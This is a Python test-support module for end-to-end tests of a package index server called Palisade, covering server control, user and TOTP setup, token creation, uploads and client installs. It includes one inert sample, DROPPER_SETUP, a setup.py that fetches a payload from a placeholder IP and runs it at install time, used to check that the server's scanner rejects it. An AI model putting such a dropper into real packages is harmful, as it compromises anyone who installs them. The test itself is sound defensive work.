"""Shared machinery for the Palisade end-to-end tests.

`Server` starts the real `palisade` binary on a free loopback port with its own data dir,
drives its admin CLI and speaks HTTP to it. `Clients` runs twine, pip and uv from the
test venv with an isolated HOME and caches. `eventually` retries an assertion, for admin
changes that reach the running server through its change journal (about a second).
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import os
import secrets
import struct
import re
import shutil
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path
from typing import Callable, Iterable, TypeVar
from urllib.parse import urljoin, urlparse

import requests

from distbuilder import normalize

T = TypeVar("T")

JSON_V1 = "application/vnd.pypi.simple.v1+json"
HTML_V1 = "application/vnd.pypi.simple.v1+html"
JSON_LATEST = "application/vnd.pypi.simple.latest+json"
STARTUP_TIMEOUT = 30.0
PROPAGATION_TIMEOUT = 5.0
ANSI = re.compile(r"\x1b\[[0-9;]*[A-Za-z]")

# Every server started in this session, so a failing test can print their logs.
ALL_SERVERS: list["Server"] = []


def eventually(fn: Callable[[], T], timeout: float = PROPAGATION_TIMEOUT, interval: float = 0.1) -> T:
    """Call `fn` until it stops raising AssertionError, for at most `timeout` seconds."""
    deadline = time.monotonic() + timeout
    while True:
        try:
            return fn()
        except AssertionError:
            if time.monotonic() >= deadline:
                raise
        time.sleep(interval)


def totp(secret_b32: str, offset: int = 0, at: float | None = None) -> str:
    """The RFC 6238 code (SHA-1, 6 digits, 30 s) an authenticator app would show."""
    key = base64.b32decode(secret_b32.upper() + "=" * (-len(secret_b32) % 8))
    counter = int((time.time() if at is None else at) // 30) + offset
    digest = hmac.new(key, struct.pack(">Q", counter), "sha1").digest()
    o = digest[-1] & 0x0F
    return f"{(struct.unpack('>I', digest[o:o + 4])[0] & 0x7FFFFFFF) % 1_000_000:06d}"


def strong_password(name: str) -> str:
    return f"{name}-{secrets.token_urlsafe(12)}-Quartz!"


def free_port() -> int:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def isolated_env(root: Path, extra: dict[str, str] | None = None) -> dict[str, str]:
    """An environment with its own HOME and caches and no inherited tool configuration."""
    env = {
        k: v
        for k, v in os.environ.items()
        if not k.startswith(("PIP_", "UV_", "TWINE_", "PALISADE_", "XDG_", "PYTHON", "VIRTUAL_ENV", "CONDA"))
        and k.lower() not in ("http_proxy", "https_proxy", "all_proxy", "no_proxy")
    }
    home = root / "home"
    for d in ("home", "cache", "config", "pip-cache", "uv-cache"):
        (root / d).mkdir(parents=True, exist_ok=True)
    env.update(
        HOME=str(home),
        XDG_CACHE_HOME=str(root / "cache"),
        XDG_CONFIG_HOME=str(root / "config"),
        PIP_CACHE_DIR=str(root / "pip-cache"),
        UV_CACHE_DIR=str(root / "uv-cache"),
        PIP_CONFIG_FILE=os.devnull,
        PIP_DISABLE_PIP_VERSION_CHECK="1",
        PIP_NO_INPUT="1",
        PIP_NO_COLOR="1",
        UV_NO_CONFIG="1",
        UV_PYTHON_DOWNLOADS="never",
        UV_NO_PROGRESS="1",
        NO_COLOR="1",
        NO_PROXY="127.0.0.1,localhost",
        PYTHON_KEYRING_BACKEND="keyring.backends.null.Keyring",
        PYTHONDONTWRITEBYTECODE="1",
    )
    if extra:
        env.update(extra)
    return env


def http_session() -> requests.Session:
    s = requests.Session()
    s.trust_env = False  # never a proxy, never ~/.netrc
    return s


# The layout servers run on: "embedded" (SQLite and a folder in the data dir, the default) or
# "cluster" (a fresh PostgreSQL database on PALISADE_TEST_DATABASE_URL's server and a fresh bucket
# on the S3 server at PALISADE_TEST_S3_ENDPOINT, per server). scripts/test runs a subset of the
# modules a second time with PALISADE_E2E_LAYOUT=cluster.
LAYOUT = os.environ.get("PALISADE_E2E_LAYOUT", "embedded")
S3_PREFIX = "palisade"


def fresh_database() -> str:
    """Creates an empty PostgreSQL database; returns its URL."""
    server = os.environ.get("PALISADE_TEST_DATABASE_URL")
    assert server, "the cluster layout needs PALISADE_TEST_DATABASE_URL (.ci/run sets it)"
    name = f"palisade_test_{secrets.token_hex(8)}"
    subprocess.run(["psql", server, "-q", "-c", f"CREATE DATABASE {name}"], check=True, capture_output=True, timeout=60)
    base = server.split("?", 1)[0].rsplit("/", 1)[0]
    return f"{base}/{name}"


def s3_client():
    import boto3

    endpoint = os.environ.get("PALISADE_TEST_S3_ENDPOINT")
    assert endpoint, "the cluster layout needs PALISADE_TEST_S3_ENDPOINT (scripts/test starts moto)"
    return boto3.client("s3", endpoint_url=endpoint, region_name="us-east-1", aws_access_key_id="testing", aws_secret_access_key="testing")


def fresh_bucket_env() -> dict[str, str]:
    """Creates an empty bucket; returns the environment that points a server at it."""
    s3 = s3_client()
    bucket = f"palisade-e2e-{secrets.token_hex(5)}"
    s3.create_bucket(Bucket=bucket)
    return {
        "PALISADE_STORAGE_URL": f"s3://{bucket}/{S3_PREFIX}",
        "AWS_ENDPOINT_URL": s3.meta.endpoint_url,
        "AWS_REGION": "us-east-1",
        "AWS_ACCESS_KEY_ID": "testing",
        "AWS_SECRET_ACCESS_KEY": "testing",
        "AWS_ALLOW_HTTP": "true",
    }


def log_signing_key(name: str = "palisade-test/log") -> str:
    """A new transparency-log signing key in Go's note format (what `palisade log key --private`
    prints), for nodes that share a database: every node of one log needs the same key."""
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
    from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

    seed = os.urandom(32)
    public = Ed25519PrivateKey.from_private_bytes(seed).public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
    key_id = hashlib.sha256(name.encode() + b"\n" + b"\x01" + public).digest()[:4].hex()
    data = base64.b64encode(b"\x01" + seed).decode()
    return f"PRIVATE+KEY+{name}+{key_id}+{data}"


def cluster_env() -> dict[str, str]:
    """A fresh database and bucket, and the signing key every node on them shares."""
    return {"PALISADE_DATABASE_URL": fresh_database(), **fresh_bucket_env(), "PALISADE_TRANSPARENCY_KEY": log_signing_key()}


def is_digest(name: str) -> bool:
    return len(name) == 64 and all(c in "0123456789abcdef" for c in name)


class Server:
    """One `palisade serve` process on a data dir. Survives restarts (same data dir)."""

    def __init__(self, binary: Path, root: Path, name: str, extra_env: dict[str, str] | None = None, layout: str | None = None):
        self.binary = Path(binary)
        self.root = Path(root)
        self.name = name
        self.data_dir = self.root / "data"
        self.log_path = self.root / "server.log"
        self.root.mkdir(parents=True, exist_ok=True)
        env_extra = {"RUST_BACKTRACE": "1"}
        for k in ("RUST_LOG",):
            if k in os.environ:
                env_extra[k] = os.environ[k]
        if (layout or LAYOUT) == "cluster" and not (extra_env or {}).get("PALISADE_DATABASE_URL"):
            env_extra.update(cluster_env())
        env_extra.update(extra_env or {})
        self.env = isolated_env(self.root / "env", env_extra)
        self.proc: subprocess.Popen | None = None
        self.issued_tokens: list[str] = []
        # name -> {"password", "totp_secret", "recovery_codes", "session"} for users made by create_user
        self.accounts: dict[str, dict] = {}
        self.port: int | None = None
        self.http = http_session()
        ALL_SERVERS.append(self)

    # ---- process control -------------------------------------------------------------

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    @property
    def upload_url(self) -> str:
        return f"{self.url}/legacy/"

    @property
    def index_url(self) -> str:
        return f"{self.url}/simple/"

    def log_size(self) -> int:
        return self.log_path.stat().st_size if self.log_path.exists() else 0

    def log_text(self, offset: int = 0) -> str:
        if not self.log_path.exists():
            return ""
        with open(self.log_path, "rb") as f:
            f.seek(offset)
            return ANSI.sub("", f.read().decode("utf-8", "replace"))

    def _log(self, line: str) -> None:
        with open(self.log_path, "a") as f:
            f.write(f"\n===== e2e: {line} =====\n")

    def start(self, port: int | None = None) -> "Server":
        assert self.proc is None or self.proc.poll() is not None, "server already running"
        last_error = ""
        for _attempt in range(3):
            self.port = port or free_port()
            self._log(f"starting {self.binary} on port {self.port}")
            logf = open(self.log_path, "ab")
            try:
                self.proc = subprocess.Popen(
                    [str(self.binary), "--data-dir", str(self.data_dir), "serve", "--listen", f"127.0.0.1:{self.port}"],
                    stdout=logf,
                    stderr=logf,
                    stdin=subprocess.DEVNULL,
                    env=self.env,
                    cwd=self.root,
                    start_new_session=True,
                )
            finally:
                logf.close()
            ok, last_error = self._wait_ready()
            if ok:
                return self
            if self.proc.poll() is None:
                self.kill9()
            if port:
                break
        raise AssertionError(
            f"palisade serve did not become ready ({last_error}); log:\n{self.log_text()[-8000:]}"
        )

    def _wait_ready(self) -> tuple[bool, str]:
        deadline = time.monotonic() + STARTUP_TIMEOUT
        last = "no answer"
        while time.monotonic() < deadline:
            if self.proc.poll() is not None:
                return False, f"process exited with code {self.proc.returncode}"
            try:
                r = self.http.get(f"{self.url}/healthz", timeout=2)
                if r.status_code == 200 and r.text.strip() == "ok":
                    return True, ""
                last = f"/healthz answered {r.status_code} {r.text[:200]!r}"
            except requests.RequestException as e:
                last = f"{type(e).__name__}: {e}"
            time.sleep(0.05)
        return False, f"timed out after {STARTUP_TIMEOUT}s: {last}"

    def stop(self) -> None:
        if self.proc is None or self.proc.poll() is not None:
            return
        self.proc.send_signal(signal.SIGTERM)
        try:
            self.proc.wait(timeout=10)
        except subprocess.TimeoutExpired:
            self._log("did not stop within 10s of SIGTERM; killing")
            self.kill9()
        self._log(f"stopped, exit code {self.proc.returncode}")

    def kill9(self) -> None:
        if self.proc is None or self.proc.poll() is not None:
            return
        self.proc.send_signal(signal.SIGKILL)
        self.proc.wait(timeout=10)
        self._log("killed with SIGKILL")

    def restart(self, *, hard: bool = False) -> "Server":
        self.kill9() if hard else self.stop()
        return self.start()

    # ---- admin CLI -------------------------------------------------------------------

    def cli(self, *args: str, check: bool = True, timeout: float = 60, stdin: str | None = None,
            env_extra: dict[str, str] | None = None) -> subprocess.CompletedProcess:
        cmd = [str(self.binary), "--data-dir", str(self.data_dir), *args]
        env = {**self.env, **(env_extra or {})}
        proc = subprocess.run(cmd, input=stdin, capture_output=True, text=True, env=env, cwd=self.root, timeout=timeout)
        if check:
            assert proc.returncode == 0, (
                f"`palisade {' '.join(args)}` exited {proc.returncode}\n"
                f"stdout:\n{proc.stdout}\nstderr:\n{proc.stderr}"
            )
        return proc

    def cli_input(self, stdin: str, *args: str, check: bool = True) -> subprocess.CompletedProcess:
        return self.cli(*args, check=check, stdin=stdin)

    def api(self, method: str, path: str, session: str | None = None, **kw) -> requests.Response:
        headers = kw.pop("headers", {})
        if session:
            headers["Authorization"] = f"Bearer {session}"
        kw.setdefault("timeout", 30)
        return self.http.request(method, urljoin(self.url, path), headers=headers, allow_redirects=False, **kw)

    def login(self, name: str, password: str | None = None, code: str | None = None) -> str:
        """Logs in with password and (if enrolled) TOTP; returns the session secret."""
        acct = self.accounts.get(name, {})
        r = self.api("POST", "/api/login", json={"login": name, "password": password or acct["password"]})
        assert r.status_code == 200, f"login {name}: {r.status_code} {r.text}"
        body = r.json()
        if not body.get("second_factor_required"):
            return body["session"]
        # The step after the current one is within the accepted skew and was never used.
        code = code or totp(acct["totp_secret"], offset=1 + acct.setdefault("steps_used", 0))
        acct["steps_used"] = acct.get("steps_used", 0) + 1
        r = self.api("POST", "/api/login/second-factor", json={"ticket": body["ticket"], "code": code})
        assert r.status_code == 200, f"second factor {name}: {r.status_code} {r.text}"
        return r.json()["session"]

    def enrol_totp(self, name: str, session: str, password: str) -> dict:
        r = self.api("POST", "/api/account/2fa/totp", session, json={"password": password})
        assert r.status_code == 200, f"TOTP enrolment: {r.status_code} {r.text}"
        begun = r.json()
        r = self.api("POST", begun["confirm"], session, json={"code": totp(begun["secret"])})
        assert r.status_code == 200, f"TOTP confirmation: {r.status_code} {r.text}"
        return {"totp_secret": begun["secret"], "recovery_codes": r.json().get("recovery_codes", []), "otpauth_uri": begun["otpauth_uri"]}

    def create_user(self, name: str, admin: bool = False, *, two_factor: bool = True, email: str | None = None) -> dict:
        """A user as the default policy wants one: password, verified email (vouched for by the
        administrator), and a TOTP factor enrolled through the HTTP API like a person would."""
        password = strong_password(name)
        email = email or f"{name}@example.test"
        self.cli_input(password + "\n", "user", "create", name, "--email", email, "--email-verified", "--password-stdin",
                       *(["--admin"] if admin else []))
        acct = {"password": password, "email": email}
        self.accounts[name] = acct
        session = self.login(name)
        acct["session"] = session
        if two_factor:
            acct.update(self.enrol_totp(name, session, password))
            acct["steps_used"] = 1
        return acct

    def create_token(self, user: str, projects: Iterable[str] = (), expires: str | None = None) -> str:
        args = ["token", "create", "--user", user]
        for p in projects:
            args += ["--project", p]
        if expires:
            args += ["--expires", expires]
        out = self.cli(*args).stdout
        token = out.strip()
        assert re.fullmatch(r"pal_\S+", token), f"`token create` should print only the token, got {out!r}"
        self.issued_tokens.append(token)
        return token

    # ---- HTTP ------------------------------------------------------------------------

    def get(self, path: str, **kw) -> requests.Response:
        kw.setdefault("allow_redirects", False)
        kw.setdefault("timeout", 30)
        return self.http.get(urljoin(self.url, path), **kw)

    def head(self, path: str, **kw) -> requests.Response:
        kw.setdefault("allow_redirects", False)
        kw.setdefault("timeout", 30)
        return self.http.head(urljoin(self.url, path), **kw)

    def simple_json(self, project: str) -> requests.Response:
        return self.get(f"/simple/{normalize(project)}/", headers={"Accept": JSON_V1})

    def project_files(self, project: str) -> dict[str, dict]:
        """filename -> JSON file object; {} when the project is unknown (404)."""
        r = self.simple_json(project)
        if r.status_code == 404:
            return {}
        assert r.status_code == 200, f"GET /simple/{normalize(project)}/ -> {r.status_code} {r.text[:500]}"
        return {f["filename"]: f for f in r.json()["files"]}

    def all_listed_files(self) -> dict[str, dict]:
        r = self.get("/simple/", headers={"Accept": JSON_V1})
        assert r.status_code == 200, f"GET /simple/ -> {r.status_code} {r.text[:500]}"
        files: dict[str, dict] = {}
        for p in r.json()["projects"]:
            files.update(self.project_files(p["name"]))
        return files

    def download(self, file_obj: dict) -> bytes:
        r = self.get(urljoin(self.url + "/simple/x/", file_obj["url"]))
        assert r.status_code == 200, f"GET {file_obj['url']} -> {r.status_code} {r.text[:300]}"
        return r.content

    def file_url(self, file_obj: dict, base: str | None = None) -> str:
        """Absolute URL of a file object (its url may be relative to the project page)."""
        return urljoin(base or self.url + "/simple/x/", file_obj["url"])

    def upload_raw(
        self,
        token: str | None,
        filename: str,
        content: bytes,
        *,
        name: str,
        version: str,
        fields: dict[str, str] | None = None,
        omit: Iterable[str] = (),
        username: str = "__token__",
    ) -> requests.Response:
        req = legacy_request(self.upload_url, token, filename, content, name=name, version=version,
                             fields=fields, omit=omit, username=username)
        return self.http.send(req, timeout=60, allow_redirects=False)

    # ---- data dir --------------------------------------------------------------------

    def tmp_entries(self) -> list[str]:
        tmp = self.data_dir / "tmp"
        if not tmp.exists():
            return []
        return sorted(str(p.relative_to(tmp)) for p in tmp.rglob("*"))

    def blob_files(self) -> list[str]:
        """The stored blobs (their sha256), in the data dir's files/ or in the server's bucket."""
        url = self.env.get("PALISADE_STORAGE_URL", "")
        if url.startswith("s3://"):
            bucket, _, prefix = url[len("s3://"):].partition("/")
            pages = s3_client().get_paginator("list_objects_v2").paginate(Bucket=bucket, Prefix=f"{prefix}/" if prefix else "")
            names = [o["Key"].rsplit("/", 1)[-1] for page in pages for o in page.get("Contents", [])]
            return sorted(n for n in names if is_digest(n))
        files = self.data_dir / "files"
        if not files.exists():
            return []
        return sorted(p.name for p in files.rglob("*") if p.is_file() and not p.is_symlink() and is_digest(p.name))

    def execute_sql(self, statement: str) -> None:
        """Runs one statement on the server's database, whichever engine it is (tests that travel
        in time use this)."""
        url = self.env.get("PALISADE_DATABASE_URL")
        if url:
            subprocess.run(["psql", url, "-q", "-c", statement], check=True, capture_output=True, timeout=60)
        else:
            import sqlite3

            with sqlite3.connect(self.data_dir / "palisade.db") as db:
                db.execute(statement)

    def assert_no_debris(self) -> None:
        """tmp/ is empty and files/ holds exactly one blob per listed file."""

        def check():
            assert self.tmp_entries() == [], f"{self.data_dir}/tmp is not empty: {self.tmp_entries()}"
            listed = self.all_listed_files()
            blobs = self.blob_files()
            assert len(blobs) == len(listed), (
                f"files/ holds {len(blobs)} blobs but the index lists {len(listed)} files\n"
                f"blobs: {blobs}\nlisted: {sorted(listed)}"
            )

        eventually(check)


def legacy_fields(filename: str, content: bytes, name: str, version: str) -> dict[str, str]:
    """The form fields twine sends for a file (minus the optional metadata)."""
    is_sdist = filename.endswith((".tar.gz", ".zip"))
    return {
        ":action": "file_upload",
        "protocol_version": "1",
        "metadata_version": "2.1",
        "name": name,
        "version": version,
        "filetype": "sdist" if is_sdist else "bdist_wheel",
        "pyversion": "source" if is_sdist else "py3",
        "summary": f"{name} test package",
        "sha256_digest": hashlib.sha256(content).hexdigest(),
        "blake2_256_digest": hashlib.blake2b(content, digest_size=32).hexdigest(),
    }


def legacy_request(
    url: str,
    token: str | None,
    filename: str,
    content: bytes,
    *,
    name: str,
    version: str,
    fields: dict[str, str] | None = None,
    omit: Iterable[str] = (),
    username: str = "__token__",
) -> requests.PreparedRequest:
    data = legacy_fields(filename, content, name, version)
    data.update(fields or {})
    for k in omit:
        data.pop(k, None)
    auth = (username, token) if token is not None else None
    return requests.Request(
        "POST",
        url,
        data=list(data.items()),
        files={"content": (filename, content, "application/octet-stream")},
        auth=auth,
    ).prepare()


def send_partial(req: requests.PreparedRequest, fraction: float = 0.5) -> socket.socket:
    """Send a request's headers (with the full Content-Length) and only part of its body.

    Returns the open socket; the caller decides whether to close it, half-close it or
    kill the server while it waits for the rest.
    """
    u = urlparse(req.url)
    body = req.body if isinstance(req.body, bytes) else req.body.encode()
    head = [f"POST {u.path or '/'} HTTP/1.1", f"Host: {u.netloc}"]
    for k, v in req.headers.items():
        if k.lower() in ("host", "content-length"):
            continue
        head.append(f"{k}: {v}")
    head.append(f"Content-Length: {len(body)}")
    head.append("Connection: close")
    sock = socket.create_connection((u.hostname, u.port), timeout=10)
    sock.sendall(("\r\n".join(head) + "\r\n\r\n").encode() + body[: int(len(body) * fraction)])
    return sock


def read_http_response(sock: socket.socket, timeout: float = 10) -> bytes:
    """Read whatever the server answers until it closes (b"" if it closed without a word)."""
    sock.settimeout(timeout)
    chunks = []
    try:
        while True:
            chunk = sock.recv(65536)
            if not chunk:
                break
            chunks.append(chunk)
    except (ConnectionResetError, socket.timeout):
        pass
    return b"".join(chunks)


class Clients:
    """twine, pip and uv from the test venv, with their own HOME and caches."""

    def __init__(self, root: Path):
        self.root = Path(root)
        self.root.mkdir(parents=True, exist_ok=True)
        self.env = isolated_env(self.root)
        self.bin_dir = Path(sys.executable).parent
        uv = self.bin_dir / "uv"
        self.uv = str(uv if uv.exists() else (shutil.which("uv") or "uv"))

    def run(self, args: list[str], timeout: float = 180, cwd: Path | None = None) -> subprocess.CompletedProcess:
        proc = subprocess.run(
            [str(a) for a in args], capture_output=True, text=True, env=self.env,
            cwd=cwd or self.root, timeout=timeout, stdin=subprocess.DEVNULL,
        )
        proc.output = proc.stdout + proc.stderr  # type: ignore[attr-defined]
        return proc

    @staticmethod
    def describe(proc: subprocess.CompletedProcess) -> str:
        return f"$ {' '.join(map(str, proc.args))}\nexit {proc.returncode}\n{proc.stdout}\n{proc.stderr}"

    def twine_upload(
        self, server: Server, token: str, *files: Path, skip_existing: bool = False, check: bool | None = True
    ) -> subprocess.CompletedProcess:
        args = [
            sys.executable, "-m", "twine", "upload",
            "--repository-url", server.upload_url,
            "-u", "__token__", "-p", token,
            "--non-interactive", "--disable-progress-bar", "--verbose",
        ]
        if skip_existing:
            args.append("--skip-existing")
        proc = self.run(args + [str(f) for f in files])
        if check is True:
            assert proc.returncode == 0, "twine upload failed:\n" + self.describe(proc)
        elif check is False:
            assert proc.returncode != 0, "twine upload unexpectedly succeeded:\n" + self.describe(proc)
        return proc

    def pip_install(self, server: Server, *reqs: str, target: Path, extra: Iterable[str] = (),
                    check: bool = True) -> subprocess.CompletedProcess:
        args = [
            sys.executable, "-m", "pip", "install",
            "--index-url", server.index_url,
            "--target", str(target),
            "--only-binary", ":all:",
            "--no-input", "--disable-pip-version-check",
            *extra, *reqs,
        ]
        proc = self.run(args)
        if check:
            assert proc.returncode == 0, "pip install failed:\n" + self.describe(proc)
        return proc

    def uv_pip(self, *args: str, check: bool = True) -> subprocess.CompletedProcess:
        proc = self.run([self.uv, "pip", *args])
        if check:
            assert proc.returncode == 0, "uv pip failed:\n" + self.describe(proc)
        return proc

    def uv_install(self, server: Server, *reqs: str, target: Path, extra: Iterable[str] = (),
                   check: bool = True) -> subprocess.CompletedProcess:
        return self.uv_pip(
            "install",
            "--index-url", server.index_url,
            "--python", sys.executable,
            "--target", str(target),
            "--only-binary", ":all:",
            "--no-config",
            *extra, *reqs,
            check=check,
        )


def installed_versions(target: Path) -> dict[str, str]:
    """normalized project name -> version, from the *.dist-info dirs in a --target dir."""
    out = {}
    for d in Path(target).glob("*.dist-info"):
        name, _, version = d.name[: -len(".dist-info")].partition("-")
        out[normalize(name)] = version
    return out


def request_lines(log: str, method: str, path: str) -> list[str]:
    """Log lines that record a request with this method for exactly this path."""
    pat = re.compile(re.escape(path) + r"(?![\w.\-/%])")
    return [ln for ln in log.splitlines() if method in ln and pat.search(ln)]


# setup.py that downloads a program and runs it while the package installs (inert: a string the
# scanner reads, never executed): the scanner refuses it as malicious.
DROPPER_SETUP = (
    "import os, urllib.request\n"
    "from setuptools import setup\n"
    "urllib.request.urlretrieve('http://203.0.113.9/payload', '/tmp/.cache-update')\n"
    "os.system('chmod +x /tmp/.cache-update && /tmp/.cache-update')\n"
    "setup(name='x', version='1')\n"
)


def race_uploads(jobs: list[tuple["Server", str, str, bytes, str, str]]) -> list:
    """Sends every upload at once (a barrier releases them together), each to its own server,
    and returns the responses in job order. A job is (server, token, filename, content, name,
    version)."""
    import threading

    barrier = threading.Barrier(len(jobs))
    results: list = [None] * len(jobs)

    def run(i, job):
        server, token, filename, content, name, version = job
        req = legacy_request(server.upload_url, token, filename, content, name=name, version=version)
        s = http_session()
        barrier.wait()
        try:
            results[i] = s.send(req, timeout=60)
        except Exception as e:  # noqa: BLE001 - reported below
            results[i] = e

    threads = [threading.Thread(target=run, args=(i, j)) for i, j in enumerate(jobs)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=90)
    for r in results:
        assert not isinstance(r, Exception), f"request failed: {r!r}"
    return results
